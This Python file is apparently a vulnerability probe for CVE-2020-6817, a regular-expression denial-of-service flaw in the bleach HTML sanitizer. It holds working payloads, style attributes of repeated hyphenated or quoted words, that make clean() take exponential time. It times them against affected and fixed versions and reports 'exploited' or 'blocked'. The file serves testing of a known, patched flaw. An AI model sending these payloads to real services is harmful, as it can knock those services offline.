# /// vertice-probe
# id = "PYSEC-2020-340"
# aliases = ["CVE-2020-6817", "GHSA-vqhp-cxgc-6wmm", "SNYK-PYTHON-BLEACH-561754"]
# package = "bleach"
# summary = """\
#   The pattern that checks style attributes has overlapping choices, so clean() takes exponential time for a short \
#   style text."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H" }]
# cwe = ["CWE-1333"]
# kind = "redos"
# symbols = ["bleach.clean", "bleach.Cleaner", "bleach.sanitizer.Cleaner"]
#
# [[affected]]
# package = "bleach"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "3.1.4" }] }]
#
# [cases]
# attack = "a style of hyphenated words takes exponential time"
# [cases.variants]
# quotes = "the same with quoted words, through a Cleaner object"
# [cases.controls]
# colour = "an allowed style property is kept, others are dropped"
#
# [test]
# vulnerable = "3.1.3"
# fixed = "3.1.4"
# with = ["setuptools<70"]
# ///
"""CVE-2020-6817: exponential backtracking in the check of style attributes."""

import collections
import collections.abc
import json
import sys
import time

for _name in ("Mapping", "MutableMapping"):  # the html5lib inside wants them where they were before Python 3.10
    if not hasattr(collections, _name):
        setattr(collections, _name, getattr(collections.abc, _name))


def judge(work, small, large, limit, what):
    """Is the CPU time for `large` more than `limit` times that for `small` (the least of several runs each)?"""
    runs, spent, clear = {small: [], large: []}, 0.0, False
    # In turn, so that a busy neighbour slows both; and more of them while it is quick or not clear.
    while len(runs[large]) < 3 or (spent < 5 and not clear) or (spent < 0.2 and len(runs[large]) < 50):
        for size in (small, large, small):
            begin = time.process_time()
            answer = work(size)
            runs[size].append(time.process_time() - begin)
            spent += runs[size][-1]
        # Below 2 ms the clock's noise is larger than the growth.
        ratio = min(runs[large]) / max(min(runs[small]), 0.002)
        clear = not limit / 1.5 < ratio < limit * 1.5
    evidence = "%d -> %d %s: %.1f ms -> %.1f ms CPU, x%.1f (limit x%g); %s" % (
        small,
        large,
        what,
        min(runs[small]) * 1000,
        min(runs[large]) * 1000,
        ratio,
        limit,
        answer,
    )
    return ("exploited" if ratio > limit else "blocked"), evidence


def check(output):
    if not output.startswith("<p") or not output.endswith(">x</p>"):
        raise RuntimeError("unexpected output %r" % output)
    return "cleaned"


def attack():
    import bleach

    def work(size):
        markup = '<p style="color: %s{">x</p>' % ("a-b " * size)
        return check(bleach.clean(markup, tags=["p"], attributes={"p": ["style"]}, styles=["color"]))

    return judge(work, 15, 19, 4, "words")


def quotes():
    from bleach.sanitizer import Cleaner

    cleaner = Cleaner(tags=["p"], attributes={"p": ["style"]}, styles=["font-family"])

    def work(size):
        return check(cleaner.clean('<p style="font-family: %s{">x</p>' % ("'a'," * size)))

    return judge(work, 14, 18, 4, "words")


def colour():
    import bleach

    got = bleach.clean(
        "<p style=\"color: red; font-family: 'Open Sans'; position: fixed\">x</p>",
        tags=["p"],
        attributes={"p": ["style"]},
        styles=["color", "font-family"],
    )
    kept = "color: red;" in got and "Open Sans" in got and "position" not in got
    return ("works" if kept else "broken"), got


CASES = {"attack": attack, "quotes": quotes, "colour": colour}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
